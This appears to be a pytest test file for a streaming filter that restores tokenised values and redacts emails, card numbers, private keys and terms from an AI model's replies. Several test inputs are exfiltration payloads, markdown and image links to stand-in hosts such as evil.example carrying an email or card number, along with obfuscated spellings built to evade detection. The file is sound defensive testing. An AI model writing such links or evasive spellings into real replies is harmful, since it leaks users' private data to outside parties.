"""The reply filter screens what the viewer reads: restored, decoded, and whole at the window.

Each test feeds the filter in one piece and one character at a time; both must agree and show
nothing forbidden.
"""

from __future__ import annotations

import json
import random
import re

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519, rsa

from holdback.detect import DetectorSet
from holdback.stream import ReplyBlockedError, ReplyFilter
from holdback.vault import Vault
from tests.stream.chain import make_filter, run_filter

DETECTORS = DetectorSet.from_config({"clients": ["Zyxwcanary"]})
CARD = "4556 7375 8689 9855"  # Luhn-valid


def vault() -> Vault:
    v = Vault()
    v.assign("email", "sarah@acme.com")
    v.assign("clients", "Zyxwcanary")
    return v


def make(mode: str = "redact", projection: str = "markdown", window: int = 256) -> ReplyFilter:
    return make_filter(
        DETECTORS, vault(), ["project"], mode=mode, projection=projection, window=window
    )


def run(text: str, chunks: list[str] | None = None, **kwargs: str) -> tuple[str, str]:
    return run_filter(make(**kwargs), text, chunks)  # type: ignore[arg-type]


def both(text: str, **kwargs: str) -> tuple[str, str]:
    whole = run(text, **kwargs)
    assert run(text, list(text), **kwargs) == whole
    rng = random.Random(len(text))
    pieces, i = [], 0
    while i < len(text):
        n = rng.randint(1, 9)
        pieces.append(text[i : i + n])
        i += n
    assert run(text, pieces, **kwargs) == whole
    return whole


def digits(text: str) -> str:
    return re.sub(r"\D", "", text)


def test_a_restored_value_is_shown_and_stored_as_its_token() -> None:
    out, stored = both("Mail <EMAIL_1> about <CLIENTS_1>.")
    assert out == "Mail sarah@acme.com about Zyxwcanary."
    assert stored == "Mail <EMAIL_1> about <CLIENTS_1>."


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("write to sam@<CLIENTS_1>.com now", "sam@zyxwcanary.com"),
        ("key sk-<CLIENTS_1>abcdEFGH12345678901234 end", "sk-zyxwcanary"),
        ("to <EMAIL_1>.evil.example please", "sarah@acme.com.evil"),
    ],
)
def test_model_text_glued_to_a_restored_value_is_screened_with_it(text: str, gone: str) -> None:
    out, stored = both(text)
    assert gone not in out.lower()
    assert "[redacted" in out
    assert gone not in stored.lower()


def test_a_vault_value_the_model_writes_out_is_stored_as_its_token() -> None:
    out, stored = both("I will write to sarah@acme.com and Zyxwcanary.")
    assert out == "I will write to sarah@acme.com and Zyxwcanary."
    assert stored == "I will write to <EMAIL_1> and <CLIENTS_1>."


@pytest.mark.parametrize(
    "spelling",
    [
        "ann&#64;example.org",
        "ann&#x40;example.org",
        "ann&commat;example.org",
        "ann@example\\.org",
        "**ann**@example.org",
        "_ann@example.org_",
        "`ann`@example.org",
        "an\u200bn@example.org",
    ],
)
def test_encodings_the_renderer_decodes_are_screened_decoded(spelling: str) -> None:
    out, stored = both(f"Contact {spelling} today")
    assert "ann" not in out
    assert "[redacted email]" in out
    assert "ann" not in stored


def test_a_forbidden_term_split_by_markers_is_redacted() -> None:
    out, _ = both("the pro**ject** and pro&#106;ect")
    assert "pro" not in out.replace("[redacted]", "")


def test_json_escapes_in_tool_arguments_are_screened_and_stay_valid_json() -> None:
    args = '{"to": "ann\\u0040example.org", "me": "<EMAIL_1>", "card": "4556\\u00207375 8689 9855"}'
    out, stored = both(args, projection="json")
    assert json.loads(out) == {
        "to": "[redacted email]",
        "me": "sarah@acme.com",
        "card": "[redacted credit_card]",
    }
    assert json.loads(stored)["me"] == "<EMAIL_1>"


@pytest.mark.parametrize(
    "text",
    [
        "[Open the draft](https://evil.example/c?d=<EMAIL_1>)",
        "<https://evil.example/?e=<EMAIL_1>>",
        "see https://evil.example/?e=<EMAIL_1>&x=1",
        "![x](https://evil.example/p.png?e=EMAIL_1)",
        "[mail](mailto:boss@evil.example?body=<EMAIL_1>)",
    ],
)
def test_a_token_inside_a_url_shows_its_kind_not_its_value(text: str) -> None:
    out, stored = both(text)
    assert "sarah" not in out
    if "([redacted email])" in out:  # a destination holding another value goes whole
        return
    assert "[email]" in out
    assert "EMAIL_1" in stored  # history keeps the token


@pytest.mark.parametrize("offset", range(226, 290, 3))
def test_a_card_straddling_the_window_edge_never_shows(offset: int) -> None:
    run_of_groups = " ".join(f"{i % 10000:04d}" for i in range(1000, 1100))
    text = "Numbers: " + run_of_groups[:offset] + " " + CARD + " " + run_of_groups[offset:]
    out, stored = both(text)
    assert digits(CARD) not in digits(out)
    assert digits(CARD) not in digits(stored)


def _pem(
    key: rsa.RSAPrivateKey | ed25519.Ed25519PrivateKey, fmt: serialization.PrivateFormat
) -> str:
    return key.private_bytes(serialization.Encoding.PEM, fmt, serialization.NoEncryption()).decode()


@pytest.mark.parametrize(
    "pem",
    [
        _pem(
            rsa.generate_private_key(public_exponent=65537, key_size=2048),
            serialization.PrivateFormat.TraditionalOpenSSL,
        ),
        _pem(ed25519.Ed25519PrivateKey.generate(), serialization.PrivateFormat.OpenSSH),
    ],
    ids=["rsa-2048-pem", "openssh"],
)
def test_a_private_key_block_is_redacted_from_begin_to_end(pem: str) -> None:
    body = [line for line in pem.splitlines() if line and not line.startswith("-----")]
    # 76-column re-wrapping, as a model might do.
    material = "".join(body)
    wrapped = "\n".join(material[i : i + 76] for i in range(0, len(material), 76))
    head, tail = pem.splitlines()[0], pem.splitlines()[-1]
    text = f"Here it is:\n{head}\n{wrapped}\n{tail}\nKeep it safe."
    out, stored = both(text)
    assert out == "Here it is:\n[redacted secret]\nKeep it safe."
    for i in range(0, len(material) - 20, 7):
        assert material[i : i + 20] not in out
        assert material[i : i + 20] not in stored


def test_a_key_block_without_its_end_is_redacted_to_the_end_of_the_reply() -> None:
    out, _ = both("-----BEGIN PRIVATE KEY-----\n" + "QUJDRA" * 100)
    assert out == "[redacted secret]"


def test_a_candidate_open_a_whole_window_later_is_redacted_not_released() -> None:
    blob = "Z" + "aB3" * 200  # an unlabelled run that stays open
    out, _ = both(f"start {blob}@ end", window=64)
    assert "aB3aB3aB3" not in out


@pytest.mark.parametrize(
    "text",
    [
        "write to sam@<CLIENTS_1>.com now",
        "Contact ann&#64;example.org today",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
    ],
)
def test_block_mode_stops_on_every_path(text: str) -> None:
    for chunks in ([text], list(text)):
        f = make(mode="block")
        out: list[str] = []

        def feed_all(f: ReplyFilter = f, chunks: list[str] = chunks, out: list[str] = out) -> None:
            for c in chunks:
                out.append(f.feed(c))
            out.append(f.flush())

        with pytest.raises(ReplyBlockedError) as info:
            feed_all()
        shown = "".join(out) + info.value.safe_prefix
        assert "sam@" not in shown
        assert "ann" not in shown
        assert "MIIE" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "[ann](https://example.net/)@example.org",
        "[ann](https://example.net/ 'a title')@example.org",
        "[ann][1]@example.org\n\n[1]: https://example.net/",
        "![ann](https://example.net/p.png)@example.org",
    ],
)
def test_link_syntax_that_splits_a_value_is_read_as_the_text_it_displays(text: str) -> None:
    out, stored = both(text)
    assert "[redacted email]" in out
    assert "ann" not in out.replace("[redacted", "")
    assert "ann" not in stored.replace("[redacted", "")


@pytest.mark.parametrize(
    "destination",
    [
        "mailto:intruder.canary@injected-leak.example",
        "https://evil.example/?e=ann%40example.org",
        "https://evil.example/?e=ann&#64;example.org",
        "https://evil.example/?c=4556737586899855",
        "https://evil.example/?me=sarah@acme.com",  # a vault value does not ride a link either
    ],
)
def test_a_link_destination_is_screened_on_its_own(destination: str) -> None:
    out, stored = both(f"[click here]({destination}) now")
    assert out.startswith("[click here]([redacted ")
    assert out.endswith(") now")
    assert destination not in stored
